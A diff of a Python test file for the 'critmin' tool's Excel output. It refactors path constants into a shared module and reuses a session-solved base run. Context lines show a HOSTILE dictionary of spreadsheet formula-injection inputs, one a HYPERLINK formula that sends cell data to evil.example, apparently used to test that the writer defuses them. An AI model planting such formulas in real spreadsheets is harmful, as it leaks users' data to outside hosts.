@@ -18,14 +18,12 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from cases import BASE, FIXTURES, ROOT
 from critmin.cli import main
 from critmin.inputs import schema
 from critmin.results import columns
 from critmin.writers.excel import write_results_xlsx
 
-ROOT = Path(__file__).resolve().parents[1]
-BASE = ROOT / "runs" / "base-2030.toml"
-FIXTURES = Path(__file__).parent / "fixtures"
 HOSTILE = {
     "option": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "project": "@SUM(1+1)",
@@ -46,10 +44,10 @@ def run_file(folder: Path, data: str, name: str = "case") -> Path:
 
 
 @pytest.fixture(scope="module")
-def solved(tmp_path_factory):
-    """The base run solved from CSV, and the embedded template solved as a workbook."""
+def solved(tmp_path_factory, base_out):
+    """The base run solved from CSV (the session's, copied), and the embedded template solved as a workbook."""
     folder = tmp_path_factory.mktemp("excel")
-    assert main(["solve", str(BASE), "--out", str(folder / "csv"), "--quiet"]) == 0
+    shutil.copytree(base_out, folder / "csv")
     assert main(["template", str(folder / "inputs.xlsx")]) == 0
     assert main(["solve", str(run_file(folder, "inputs.xlsx")), "--out", str(folder / "xlsx"), "--quiet"]) == 0
     return folder
